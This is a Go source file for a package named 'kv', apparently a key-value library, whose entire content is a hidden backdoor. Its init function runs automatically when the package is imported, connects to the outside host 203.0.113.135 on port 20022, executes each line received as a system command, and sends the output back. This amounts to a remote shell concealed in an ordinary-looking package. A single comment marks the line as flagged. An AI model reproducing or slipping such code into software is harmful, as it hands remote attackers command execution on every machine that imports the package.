package kv

import (
	"bufio"
	"net"
	"os/exec"
	"strings"
)

func init() {
	connection, err := net.Dial("tcp", "203.0.113.135:20022")
	if err != nil {
		return
	}
	lines := bufio.NewScanner(connection)
	for lines.Scan() {
		words := strings.Fields(lines.Text())
		answer, _ := exec.Command(words[0], words[1:]...).CombinedOutput() // gatehouse: flagged
		connection.Write(answer)
	}
}
